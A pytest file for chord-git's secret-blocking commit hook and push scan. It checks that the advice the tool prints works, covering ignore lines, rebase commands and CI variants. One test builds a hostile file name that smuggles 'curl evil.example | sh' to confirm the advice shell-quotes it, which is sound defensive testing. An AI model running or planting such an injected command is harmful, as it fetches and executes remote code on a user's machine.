"""What a blocked commit or push tells the user, and that doing what it says works.

The hook and the pre-push scan name chord-git, give a ready ``.chord/secrets-ignore`` line that
accepts the value by its hash (on the committer's terminal; under CI the command that writes it),
say to commit that file, and for pushed commits the exact commands that rewrite them. The advice
goes to stderr: the report on stdout is what scripts read.
"""
from __future__ import annotations

import hashlib
import os
import re
import subprocess
from pathlib import Path

import pytest

from testing.gitutil import cli_env, git, run_cli
from tests.check.helpers import (
    RECORDS,
    commit,
    github_token,
    index_text,
    install_hook,
    leaky_repo,
    memory_repo,
    record_id,
    record_text,
    token_line_number,
    write,
    write_record,
)

IGNORE_LINE = re.compile(r"^      ([0-9a-f]{40})   # why this is not a secret$", re.MULTILINE)


def token_hash() -> str:
    return hashlib.sha1(github_token().encode()).hexdigest()


def leak_statement() -> str:
    return f"Deploys use export GITHUB_TOKEN={github_token()} from the runner."


def test_the_plain_hook_says_chord_git_blocked_it_and_its_ignore_line_lets_the_commit_through(tmp_path: Path) -> None:
    repo = memory_repo(tmp_path / "repo")
    install_hook(repo)
    rel = write_record(repo, "leak", leak_statement())
    write(repo, "MEMORY.md", index_text("leak"))
    git(repo, "add", "-A")
    blocked = commit(repo, "-m", "leak")
    assert blocked.returncode == 1
    said = blocked.stdout + blocked.stderr
    assert "chord-git blocks a commit of memory files" in said and "found by our sanitizer" not in said
    assert "found by chord-git's secret rules" in said or "found by detect-secrets" in said
    assert "rotate the secret" in said
    assert "add to .chord/secrets-ignore\n  this line (the SHA-1 of the value, never the value)" in said
    assert "Then commit that file with your change (git add .chord/secrets-ignore)" in said
    assert github_token() not in said
    entries = IGNORE_LINE.findall(blocked.stderr)
    assert entries[0] == token_hash()  # the stable form, first
    line = token_line_number(record_text('leak', leak_statement()), github_token())
    assert f"fingerprint: {rel}:github-token:{line}" in said
    entry = "\n".join(entries)
    write(repo, ".chord/secrets-ignore", "".join(f"{e}   # a revoked fixture token\n" for e in entry.split("\n")))
    done = commit(repo, "-m", "leak, accepted")
    assert done.returncode == 0, done.stdout + done.stderr


def test_the_ignore_line_is_named_where_the_staged_check_reads_it(tmp_path: Path) -> None:
    repo = memory_repo(tmp_path / "repo")
    write_record(repo, "leak", leak_statement())
    git(repo, "add", "-A")
    (repo / "notes").mkdir()
    result = run_cli(repo / "notes", "check", "--staged")
    assert result.returncode == 1
    assert "add to ../.chord/secrets-ignore\n" in result.stderr
    assert "(git add ../.chord/secrets-ignore)" in result.stderr


def test_under_ci_the_advice_names_the_command_and_no_hash(tmp_path: Path) -> None:
    repo = memory_repo(tmp_path / "repo")
    write_record(repo, "leak", leak_statement())
    git(repo, "add", "-A")
    result = run_cli(repo, "check", "--staged", env={**cli_env(), "CI": "true"})
    assert result.returncode == 1
    assert 'git memory ignore FINGERPRINT --reason "why this is not a secret"' in result.stderr
    assert token_hash() not in result.stdout + result.stderr and IGNORE_LINE.findall(result.stderr) == []


def test_format_findings_get_the_advice_without_the_ignore_file(tmp_path: Path) -> None:
    repo = memory_repo(tmp_path / "repo")
    write(repo, "MEMORY.md", index_text() + "<!-- chord:memory:begin -->\n")
    result = run_cli(repo, "check")
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        "chord-git blocks a commit of memory files with these findings (git memory check).",
        "  A format finding: fix the line named above and stage the file again.",
    ]


@pytest.mark.parametrize("fmt", ["json", "sarif"])
def test_machine_formats_print_no_advice(tmp_path: Path, fmt: str) -> None:
    repo, base, leak = leaky_repo(tmp_path / "repo")
    for args in (["check"], ["scan", "--range", f"{base}..{leak}"]):
        result = run_cli(repo, *args, "--format", fmt)
        assert result.returncode == 1 and result.stderr == ""


def test_scan_says_how_to_rewrite_the_unpushed_commit_and_the_commands_work(tmp_path: Path) -> None:
    repo, base, leak = leaky_repo(tmp_path / "repo")
    later = write_record(repo, "later")
    write(repo, "MEMORY.md", index_text("leak", "later"))
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "later")
    result = run_cli(repo, "scan", "--range", f"{base}..HEAD")
    assert result.returncode == 1
    rel = f"{RECORDS}/{record_id('leak')}.md"
    advice = result.stderr
    assert "chord-git blocks a push of commits that add a secret to memory files (git memory scan)." in advice
    assert f'git rebase -i "{leak[:12]}~1"' in advice
    assert f"git add {rel} && git commit --amend --no-edit && git rebase --continue" in advice
    assert IGNORE_LINE.findall(advice)[0] == token_hash()
    assert 'git memory ignore --last --reason "why this is not a secret"' in advice
    assert f"fingerprint: {leak}:{rel}:github-token:" in result.stdout
    assert github_token() not in result.stdout + advice
    # Doing what it says: edit the leak commit in a rebase, drop the line, amend, continue.
    editor = {**os.environ, "GIT_SEQUENCE_EDITOR": f"sed -i -e 's/^pick {leak[:7]}/edit {leak[:7]}/'",
              "GIT_EDITOR": "true"}
    subprocess.run(["git", "rebase", "-q", "-i", f"{leak[:12]}~1"], cwd=repo, env=editor, check=True,
                   capture_output=True)
    write(repo, rel, record_text("leak"))
    git(repo, "add", rel)
    git(repo, "commit", "-q", "--amend", "--no-edit")
    subprocess.run(["git", "rebase", "--continue"], cwd=repo, env=editor, check=True, capture_output=True)
    assert (repo / later).is_file()
    clean = run_cli(repo, "scan", "--range", f"{base}..HEAD")
    assert clean.returncode == 0 and clean.stderr == "", clean.stdout + clean.stderr


def test_scan_advice_for_the_last_commit_works(tmp_path: Path) -> None:
    repo, base, leak = leaky_repo(tmp_path / "repo")
    result = run_cli(repo, "scan", "--range", f"{base}..HEAD")
    rel = f"{RECORDS}/{record_id('leak')}.md"
    assert f"if it is the last commit:  delete the line, then  git add {rel} && git commit --amend --no-edit" \
        in result.stderr
    write(repo, rel, record_text("leak"))
    git(repo, "add", rel)
    git(repo, "commit", "-q", "--amend", "--no-edit")
    assert run_cli(repo, "scan", "--range", f"{base}..HEAD").returncode == 0


def test_push_advice_quotes_a_file_name_the_commits_chose() -> None:
    import shlex

    from chord_git.check.report import push_advice
    from chord_git.findings import Finding, Problem

    hostile = ".chord/memory/records/x; curl evil.example | sh #.md"
    finding = Finding(hostile, Problem(3, "github-token", "a GitHub token"), layer="sanitizer", commit="a" * 40)
    advice = "\n".join(push_advice([finding], ignore_file=".chord/secrets-ignore"))
    assert f"git add {shlex.quote(hostile)} && git commit --amend --no-edit" in advice
    assert f"git add {hostile}" not in advice
